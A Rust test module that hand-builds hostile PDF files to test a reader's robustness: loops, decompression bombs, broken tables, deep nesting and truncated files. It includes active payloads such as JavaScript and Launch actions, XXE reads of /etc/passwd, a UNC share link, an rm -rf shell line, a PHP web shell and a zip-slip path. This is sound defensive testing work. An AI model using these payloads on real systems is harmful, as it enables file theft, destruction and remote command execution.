//! PDF files that are meant to break who reads them: written by hand, byte by byte.

use crate::support::pdf;

/// A file: what is wrong with it, and its bytes.
pub type Hostile = (&'static str, Vec<u8>);

/// Objects by number, and what the trailer says besides its size.
fn file(objects: &[(u32, Vec<u8>)], trailer: &str) -> Vec<u8> {
    let mut bytes = b"%PDF-1.7\n".to_vec();
    let mut places = Vec::new();
    for (number, body) in objects {
        places.push((*number, bytes.len()));
        bytes.extend(format!("{number} 0 obj\n").bytes());
        bytes.extend_from_slice(body);
        bytes.extend(b"\nendobj\n");
    }
    let table = bytes.len();
    let size = objects.iter().map(|(number, _)| number + 1).max().unwrap_or(1);
    bytes.extend(b"xref\n0 1\n0000000000 65535 f \n");
    for (number, place) in places {
        bytes.extend(format!("{number} 1\n{place:010} 00000 n \n").bytes());
    }
    bytes.extend(format!("trailer\n<< /Size {size} {trailer} >>\nstartxref\n{table}\n%%EOF\n").bytes());
    bytes
}

fn text(body: &str) -> Vec<u8> {
    body.as_bytes().to_vec()
}

fn stream(dictionary: &str, data: &[u8]) -> Vec<u8> {
    [format!("<< /Length {} {dictionary} >>\nstream\n", data.len()).as_bytes(), data, b"\nendstream"].concat()
}

const WORDS: &[u8] = b"BT /F1 12 Tf 72 720 Td (These words are read from a page.) Tj ET";
const FONT: &str = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>";

/// A file of one page, some of whose objects are others.
fn page(with: &[(u32, Vec<u8>)]) -> Vec<u8> {
    page_and(with, "")
}

fn page_and(with: &[(u32, Vec<u8>)], trailer: &str) -> Vec<u8> {
    let usual = [
        (1, text("<< /Type /Catalog /Pages 2 0 R >>")),
        (2, text("<< /Type /Pages /Kids [3 0 R] /Count 1 >>")),
        (
            3,
            text(
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
            ),
        ),
        (4, stream("", WORDS)),
        (5, text(FONT)),
    ];
    let kept = usual.into_iter().filter(|(number, _)| !with.iter().any(|(other, _)| other == number));
    let mut objects: Vec<(u32, Vec<u8>)> = kept.chain(with.iter().cloned()).collect();
    objects.sort_by_key(|(number, _)| *number);
    file(&objects, &format!("/Root 1 0 R {trailer}"))
}

/// A page whose content is this.
fn content(dictionary: &str, data: &[u8]) -> Vec<u8> {
    page(&[(4, stream(dictionary, data))])
}

/// An object as the tables have it: `@DICTIONARY|DATA` is a stream.
fn object(body: &str) -> Vec<u8> {
    match body.strip_prefix('@').and_then(|stream| stream.split_once('|')) {
        Some((dictionary, data)) => stream(dictionary, data.as_bytes()),
        None => text(body),
    }
}

/// Pages some of whose objects are others, by what is wrong with them.
type Table = &'static [(&'static str, &'static [(u32, &'static str)])];

fn pages(table: Table) -> Vec<Hostile> {
    let made = |objects: &[(u32, &str)]| {
        let objects: Vec<(u32, Vec<u8>)> =
            objects.iter().map(|(number, body)| (*number, object(body))).collect();
        page(&objects)
    };
    table.iter().map(|(name, objects)| (*name, made(objects))).collect()
}

/// A run of one byte, deflated: a match of 258 bytes takes thirteen bits.
fn deflated_run(byte: u8, matches: usize) -> Vec<u8> {
    let mut bits = Bits::default();
    bits.put(0b011, 3);
    bits.put_code(u32::from(byte) + 0x30, 8);
    for _ in 0..matches {
        bits.put_code(0b1100_0101, 8);
        bits.put_code(0, 5);
    }
    bits.put_code(0, 7);
    let (mut a, mut b) = (1_u64, 0_u64);
    let count = 1 + 258 * matches as u64;
    // Of a run both sums are known without making it.
    let value = u64::from(byte);
    a = (a + value * count) % 65_521;
    b = (b + count % 65_521 + value * (count * (count + 1) / 2 % 65_521)) % 65_521;
    [&[0x78, 0x9c], bits.bytes().as_slice(), &u32::try_from(b << 16 | a).unwrap().to_be_bytes()].concat()
}

/// Bits as deflate packs them.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    used: usize,
}

impl Bits {
    fn put(&mut self, value: u32, count: usize) {
        for at in 0..count {
            if self.used.is_multiple_of(8) {
                self.bytes.push(0);
            }
            let last = self.bytes.len() - 1;
            self.bytes[last] |= u8::from(value >> at & 1 == 1) << (self.used % 8);
            self.used += 1;
        }
    }

    /// Codes come with their first bit first.
    fn put_code(&mut self, code: u32, count: usize) {
        for at in (0..count).rev() {
            self.put(code >> at & 1, 1);
        }
    }

    fn bytes(self) -> Vec<u8> {
        self.bytes
    }
}

const DRAWN: &str = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /XObject << /X 6 0 R /Y 7 0 R >> >> >>";

/// Files whose parts lead back to themselves.
const LOOPS: Table = &[
    ("a page tree that is its own child", &[(2, "<< /Type /Pages /Kids [2 0 R] /Count 1 >>")]),
    (
        "two page trees in each other",
        &[
            (2, "<< /Type /Pages /Kids [6 0 R] /Count 1 >>"),
            (6, "<< /Type /Pages /Kids [2 0 R 2 0 R] /Parent 2 0 R /Count 1 >>"),
        ],
    ),
    ("a page that is its own parent", &[(3, "<< /Type /Page /Parent 3 0 R /Contents 4 0 R >>")]),
    ("a catalogue that is its own pages", &[(1, "<< /Type /Catalog /Pages 1 0 R >>")]),
    ("an object that is itself", &[(4, "4 0 R")]),
    ("objects that are each other", &[(4, "5 0 R"), (5, "4 0 R")]),
    ("a length that is itself", &[(4, "<< /Length 6 0 R >>\nstream\nBT ET\nendstream"), (6, "6 0 R")]),
    ("a length that is its stream", &[(4, "<< /Length 4 0 R >>\nstream\nBT ET\nendstream")]),
    (
        "a filter that is itself",
        &[(4, "<< /Length 5 /Filter 6 0 R >>\nstream\nBT ET\nendstream"), (6, "6 0 R")],
    ),
    ("contents in a circle", &[(4, "[4 0 R 4 0 R]")]),
    (
        "resources in a circle",
        &[
            (3, "<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources 6 0 R >>"),
            (6, "<< /Font 6 0 R /XObject 6 0 R /Resources 6 0 R >>"),
        ],
    ),
    (
        "a form that draws itself",
        &[
            (3, DRAWN),
            (4, "@|/X Do"),
            (
                6,
                "@/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>|/X Do /X Do",
            ),
        ],
    ),
    (
        "forms that draw each other",
        &[
            (3, DRAWN),
            (4, "@|/X Do"),
            (
                6,
                "@/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /Y 7 0 R >> >>|/Y Do /Y Do",
            ),
            (
                7,
                "@/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>|/X Do /X Do",
            ),
        ],
    ),
    (
        "a font of itself",
        &[(
            5,
            "<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /DescendantFonts [5 0 R] /ToUnicode 5 0 R >>",
        )],
    ),
    (
        "an encoding of itself",
        &[
            (5, "<< /Type /Font /Subtype /TrueType /BaseFont /A /Encoding 6 0 R >>"),
            (6, "<< /BaseEncoding 6 0 R /Differences 6 0 R >>"),
        ],
    ),
    (
        "outlines in a circle",
        &[
            (1, "<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>"),
            (6, "<< /First 7 0 R /Last 7 0 R /Count 9 >>"),
            (7, "<< /Title (a) /Next 7 0 R /First 6 0 R /Parent 7 0 R >>"),
        ],
    ),
    (
        "names in a circle",
        &[
            (1, "<< /Type /Catalog /Pages 2 0 R /Names 6 0 R /Dests 6 0 R /StructTreeRoot 6 0 R >>"),
            (6, "<< /Kids [6 0 R 6 0 R] /K 6 0 R /P 6 0 R /EmbeddedFiles 6 0 R >>"),
        ],
    ),
    (
        "a form field of itself",
        &[
            (1, "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] /XFA 6 0 R >> >>"),
            (6, "<< /Kids [6 0 R] /Parent 6 0 R /T (a) >>"),
        ],
    ),
    (
        "streams of objects in each other",
        &[
            (6, "@/Type /ObjStm /N 1 /First 4 /Extends 7 0 R|7 0 6 0 R"),
            (7, "@/Type /ObjStm /N 1 /First 4 /Extends 6 0 R|6 0 7 0 R"),
        ],
    ),
];

const PICTURED: &str = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /XObject << /X 6 0 R >> >> >>";
const DRAWS: &str = "@|q 9 0 0 9 0 0 cm /X Do Q";

/// Files that say of themselves what is not so.
const LIES: Table = &[
    ("two thousand million pages", &[(2, "<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>")]),
    ("less than no pages", &[(2, "<< /Type /Pages /Kids [3 0 R] /Count -5 >>")]),
    ("more pages than numbers", &[(2, "<< /Type /Pages /Kids [3 0 R] /Count 99999999999999999999999 >>")]),
    ("no pages", &[(2, "<< /Type /Pages /Kids [] /Count 0 >>")]),
    ("pages that are not there", &[(2, "<< /Type /Pages /Kids [90 0 R 91 0 R 92 0 R] /Count 3 >>")]),
    ("pages that are numbers", &[(2, "<< /Type /Pages /Kids [1 2 3 (a) /b] /Count 5 >>")]),
    (
        "a length of two thousand million",
        &[(4, "<< /Length 2147483647 >>\nstream\nBT (words) Tj ET\nendstream")],
    ),
    ("a length of less than nothing", &[(4, "<< /Length -1 >>\nstream\nBT (words) Tj ET\nendstream")]),
    ("a length that is no number", &[(4, "<< /Length (many) >>\nstream\nBT (words) Tj ET\nendstream")]),
    ("a length that is too short", &[(4, "<< /Length 2 >>\nstream\nBT (words) Tj ET\nendstream")]),
    (
        "four thousand million objects in a stream",
        &[(6, "@/Type /ObjStm /N 4294967295 /First 4294967295|1 0 2 0")],
    ),
    (
        "an image as wide as the sea",
        &[
            (3, PICTURED),
            (4, DRAWS),
            (
                6,
                "@/Type /XObject /Subtype /Image /Width 2147483647 /Height 2147483647 /BitsPerComponent 16 /ColorSpace /DeviceCMYK|x",
            ),
        ],
    ),
    (
        "an image of less than nothing",
        &[
            (3, PICTURED),
            (4, DRAWS),
            (
                6,
                "@/Type /XObject /Subtype /Image /Width -1 /Height -1 /BitsPerComponent -8 /ColorSpace /DeviceRGB|x",
            ),
        ],
    ),
    (
        "an image that is no JPEG",
        &[
            (3, PICTURED),
            (4, DRAWS),
            (6, "@/Type /XObject /Subtype /Image /Width 9 /Height 9 /Filter /DCTDecode|JFIF JFIF JFIF"),
        ],
    ),
    (
        "an image that is no JPEG 2000",
        &[
            (3, PICTURED),
            (4, DRAWS),
            (6, "@/Type /XObject /Subtype /Image /Width 9 /Height 9 /Filter /JPXDecode|jP  ftyp"),
        ],
    ),
    (
        "an image that is no JBIG2",
        &[
            (3, PICTURED),
            (4, DRAWS),
            (
                6,
                "@/Type /XObject /Subtype /Image /Width 9 /Height 9 /Filter /JBIG2Decode|xxxxxxxxxxxxxxxxxxxxxxxxxxx",
            ),
        ],
    ),
    (
        "a fax of an endless line",
        &[
            (3, PICTURED),
            (4, DRAWS),
            (
                6,
                "@/Type /XObject /Subtype /Image /Width 9 /Height 9 /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 2147483647 /Rows 2147483647 >>|xxxxxxxxxxxxxxxx",
            ),
        ],
    ),
    (
        "a page as large as the earth",
        &[(
            3,
            "<< /Type /Page /Parent 2 0 R /MediaBox [-1e308 -1e308 1e308 1e308] /Rotate 99999999999 /Contents 4 0 R >>",
        )],
    ),
];

const FORM: &str = "@|<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\"><!ENTITY c \"&b;&b;&b;\">]><a>&c;&b;</a>";
const OPENS: &str = "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R /O 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >> >>";

/// Files that want something done when they are opened.
const ACTIVE: Table = &[
    (
        "a script",
        &[(1, OPENS), (6, "<< /S /JavaScript /JS (app.alert\\(1\\); this.exportDataObject\\(\\)) >>")],
    ),
    (
        "a script in a stream",
        &[
            (1, "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS 6 0 R >> >>"),
            (6, "@|while (true) { app.launchURL('http://127.0.0.1/'); }"),
        ],
    ),
    (
        "a program to launch",
        &[(1, OPENS), (6, "<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>")],
    ),
    ("a form to submit", &[(1, OPENS), (6, "<< /S /SubmitForm /F (http://127.0.0.1/collect) /Flags 4 >>")]),
    ("another file to go to", &[(1, OPENS), (6, "<< /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>")]),
    ("a file within", &[(1, OPENS), (6, "<< /S /GoToE /F << /EF << /F 7 0 R >> /F (a.exe) >> >>")]),
    (
        "an address that is a script",
        &[(1, OPENS), (6, "<< /S /URI /URI (javascript:alert\\(1\\)) /Next 6 0 R >>")],
    ),
    ("data to import", &[(1, OPENS), (6, "<< /S /ImportData /F (/etc/passwd) >>")]),
    (
        "a form that names a file",
        &[
            (1, "<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 6 0 R /Fields [] >> /Metadata 6 0 R >>"),
            (6, FORM),
        ],
    ),
    (
        "contents in another file",
        &[(4, "<< /Length 0 /F (/etc/passwd) /FFilter /ASCIIHexDecode >>\nstream\n\nendstream")],
    ),
    ("a program in PostScript", &[(6, "@/Type /XObject /Subtype /PS|(/etc/passwd) (r) file { pop } loop")]),
    (
        "a film",
        &[(
            3,
            "<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Annots [<< /Subtype /RichMedia /RichMediaContent << /Assets 6 0 R >> >> << /Subtype /Movie /A true >>] >>",
        )],
    ),
];

/// Files whose table of objects is none.
fn tables() -> Vec<Hostile> {
    let usual = page(&[]);
    let found = |what: &[u8]| usual.windows(what.len()).rposition(|window| window == what).unwrap();
    let moved =
        |to: &str| [&usual[..found(b"startxref")], format!("startxref\n{to}\n%%EOF\n").as_bytes()].concat();
    let table = usual.windows(4).position(|window| window == b"xref").unwrap();
    let mut shifted = usual.clone();
    for at in (table..usual.len()).filter(|at| usual[*at].is_ascii_digit()) {
        shifted[at] = b'9';
    }
    let endless =
        stream("/Type /XRef /Size 2147483647 /W [8 8 8] /Index [0 2147483647] /Root 1 0 R", &[0xff; 48]);
    let catalog = text("<< /Type /Catalog /Pages 2 0 R >>");
    let negative = stream("/Type /XRef /Size 9 /W [-1 2 99999999] /Root 1 0 R", &[1; 48]);
    vec![
        ("a trailer before itself", page_and(&[], "/Prev 0")),
        ("a trailer of an object", page_and(&[], "/Root 2 0 R /Prev 999999999 /XRefStm 9")),
        ("a table elsewhere", moved("99999999")),
        ("a table at less than nothing", moved("-9")),
        ("a table that is no number", moved("here")),
        ("a table of nines", shifted),
        (
            "a table of streams that is endless",
            file(&[(1, catalog), (9, endless)], "/Root 1 0 R /XRefStm 60"),
        ),
        ("an index of negative widths", file(&[(9, negative)], "/Root 9 0 R")),
    ]
}

/// Files that are locked, or say so.
fn locked() -> Vec<Hostile> {
    let by = |dictionary: &str, trailer: &str| {
        page_and(
            &[(6, text(&format!("<< /Filter /Standard {dictionary} >>")))],
            &format!("/Encrypt 6 0 R {trailer}"),
        )
    };
    let long = "ff".repeat(48);
    let often = format!(
        "/V 5 /R 6 /Length 256 /O <{long}> /U <{long}> /OE <{long}> /UE <{long}> /Perms <{long}> /P -1"
    );
    vec![
        (
            "encrypted by nobody knows what",
            by("/V 99 /R 99 /Length 2147483647 /O () /U () /P -1", "/ID [() ()]"),
        ),
        ("encrypted without a key", by("/V 4 /R 4 /CF << /StdCF << /CFM /AESV2 /Length -1 >> >>", "")),
        ("encrypted in a circle", by("/V 6 0 R /R 6 0 R /O 6 0 R /U 6 0 R", "/ID 6 0 R")),
        ("encrypted with a password", pdf::encrypted().to_vec()),
        ("encrypted endlessly often", by(&often, "/ID [<00> <00>]")),
    ]
}

/// Streams that are small and become large.
fn packed() -> Vec<Hostile> {
    let filters = "/FlateDecode ".repeat(1_000);
    let rows = "/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 99999 /BitsPerComponent 32 >>";
    let noise: Vec<u8> = (0..200_000_u32).map(|at| at.wrapping_mul(2_654_435_761).to_be_bytes()[0]).collect();
    vec![
        ("six hundred million blanks", content("/Filter /FlateDecode", &deflated_run(b' ', 2_400_000))),
        ("a million brackets", content("/Filter /FlateDecode", &deflated_run(b'[', 4_000))),
        ("ten million digits", content("/Filter /FlateDecode", &deflated_run(b'7', 40_000))),
        ("a predictor of endless rows", content(rows, &deflated_run(0, 9))),
        ("a thousand filters", content(&format!("/Filter [{filters}]"), &deflated_run(0, 1_000))),
        ("hexadecimal without an end", content("/Filter /ASCIIHexDecode", &vec![b'4'; 3_000_000])),
        ("base 85 without an end", content("/Filter /ASCII85Decode", &vec![b'z'; 1_000_000])),
        ("runs of runs", content("/Filter /RunLengthDecode", &[0x81, b'('].repeat(2_000))),
        ("LZW of noise", content("/Filter /LZWDecode", &noise)),
    ]
}

/// Files that go deep.
fn deep() -> Vec<Hostile> {
    let nested =
        |open: &str, close: &str, times: usize| format!("{}{}", open.repeat(times), close.repeat(times));
    let tree = |levels: u32| {
        let mut objects = vec![(1, text("<< /Type /Catalog /Pages 2 0 R >>"))];
        for level in 2..levels {
            let (below, above) = (level + 1, level - 1);
            let node = format!("<< /Type /Pages /Kids [{below} 0 R] /Parent {above} 0 R /Count 1 >>");
            objects.push((level, text(&node)));
        }
        objects.push((levels, text(&format!("<< /Type /Page /Parent {} 0 R >>", levels - 1))));
        file(&objects, "/Root 1 0 R")
    };
    vec![
        ("brackets in brackets", page(&[(6, text(&nested("[", "]", 100_000)))])),
        ("brackets in the contents", content("", nested("[", "]", 100_000).as_bytes())),
        ("dictionaries in dictionaries", page(&[(3, text(&nested("<< /A ", " >>", 50_000)))])),
        ("words in words", content("", nested("(", ")", 200_000).as_bytes())),
        ("states that are kept", content("", "q ".repeat(200_000).as_bytes())),
        ("text in text", content("", "BT ".repeat(100_000).as_bytes())),
        ("marks in marks", content("", "/A << /B /C >> BDC ".repeat(20_000).as_bytes())),
        ("a page under ten thousand trees", tree(10_000)),
    ]
}

/// Files with much of the same.
fn wide() -> Vec<Hostile> {
    let kids = "3 0 R ".repeat(6_000);
    let parts = "4 0 R ".repeat(5_000);
    let again = format!(
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents [{parts}] /Resources << /Font << /F1 5 0 R >> >> >>"
    );
    let image = [b"BI /W 99999999 /H 99999999 /BPC 8 ID ".as_slice(), &[0; 9_000]].concat();
    let words = [b"BT /F1 9 Tf ".as_slice(), &b"(word ) Tj 0 -9 Td ".repeat(20_000), b"ET"].concat();
    let letters = [b"BT /F1 9 Tf (".as_slice(), &b"word".repeat(250_000), b") Tj ET"].concat();
    let many: Vec<(u32, Vec<u8>)> = (6..20_000).map(|number| (number, text("<< /A 6 0 R >>"))).collect();
    vec![
        ("an image within the contents without an end", content("", &image)),
        ("a page of many words", content("", &words)),
        ("a word of a million letters", content("", &letters)),
        ("the same contents five thousand times", page(&[(3, text(&again))])),
        (
            "the same page six thousand times",
            page(&[
                (2, text(&format!("<< /Type /Pages /Kids [{kids}] /Count 6000 >>"))),
                (4, stream("", b"BT ET")),
            ]),
        ),
        ("twenty thousand objects", page(&many)),
        ("a name without an end", content("", &[b"/".as_slice(), &vec![b'A'; 2_000_000]].concat())),
        (
            "a number of a million digits",
            content("", &[b"BT ".as_slice(), &vec![b'9'; 1_000_000], b" Tf ET"].concat()),
        ),
    ]
}

/// Fonts that map everything to everything.
fn maps() -> Vec<Hostile> {
    let mapped = |codes: &str| {
        let font = "<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /DescendantFonts [7 0 R] /ToUnicode 6 0 R >>";
        let map =
            format!("/CIDInit /ProcSet findresource begin 12 dict begin begincmap {codes} endcmap end end");
        let descendant =
            "<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /W [0 2147483647 500] /DW 9e99 >>";
        page(&[(5, text(font)), (6, stream("", map.as_bytes())), (7, text(descendant))])
    };
    let many = "100 beginbfrange <0000> <ffff> <0000> endbfrange ".repeat(200);
    vec![
        ("a map of all letters at once", mapped("1 beginbfrange <00000000> <ffffffff> <0000> endbfrange")),
        ("a map of many maps", mapped(&many)),
        ("a map that uses itself", mapped("/A usecmap /A usecmap")),
    ]
}

/// Files that end too early, or have something around them.
fn cut() -> Vec<Hostile> {
    let whole = page(&[]);
    let upto = |share: usize| whole[..whole.len() * share / 10].to_vec();
    let without = |what: &str| String::from_utf8_lossy(&whole).replace(what, "").into_bytes();
    let noise: Vec<u8> = (0..90_000_u32).map(|at| at.wrapping_mul(2_246_822_519).to_be_bytes()[1]).collect();
    vec![
        ("the head alone", b"%PDF-1.7".to_vec()),
        ("the head and the end", b"%PDF-1.7\n%%EOF".to_vec()),
        ("a tenth", upto(1)),
        ("three tenths", upto(3)),
        ("half", upto(5)),
        ("seven tenths", upto(7)),
        ("nine tenths", upto(9)),
        ("no ends of objects", without("endobj")),
        ("no ends of streams", without("endstream")),
        ("no table", without("xref")),
        ("zeros behind it", [whole.clone(), vec![0; 500_000]].concat()),
        ("itself behind it, a hundred times", whole.repeat(100)),
        ("noise", [b"%PDF-2.0\n".as_slice(), &noise].concat()),
        ("damaged beyond reading", pdf::broken()),
    ]
}

/// Files that are something else besides: what stands before them.
const OTHERWISE: [(&str, &[u8]); 11] = [
    ("a page in HTML", b"<!doctype html><script>alert(document.domain)</script><!--"),
    ("a picture that is a page", b"GIF89a<svg onload=alert(1)>"),
    ("a drawing with a script", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
    ("a program for Linux", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0"),
    ("a program for Windows", b"MZ\x90\0\x03\0\0\0"),
    ("a script for the shell", b"#!/bin/sh\nrm -rf \"$HOME\"\nexit\n"),
    ("a script for the server", b"<?php system($_GET['c']); ?>"),
    ("a script for the browser", b"/*"),
    ("a photograph", b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01"),
    (
        "XML that names a file",
        b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
    ),
    ("a spreadsheet", b"=cmd|' /C calc'!A1,@SUM(1)\r\n"),
];

/// Files that are something else besides.
pub fn polyglots() -> Vec<Hostile> {
    let whole = page(&[]);
    let archive = [whole.as_slice(), b"PK\x03\x04../../evil.sh", b"PK\x05\x06", &[0; 18]].concat();
    let before = |(name, head): (&'static str, &[u8])| (name, [head, b"\n", whole.as_slice()].concat());
    OTHERWISE.into_iter().map(before).chain([("an archive", archive)]).collect()
}

/// All that a reader is given.
pub fn all() -> Vec<Hostile> {
    let parts = [
        pages(LOOPS),
        pages(LIES),
        tables(),
        locked(),
        packed(),
        deep(),
        wide(),
        maps(),
        pages(ACTIVE),
        cut(),
        polyglots(),
    ];
    parts.into_iter().flatten().collect()
}
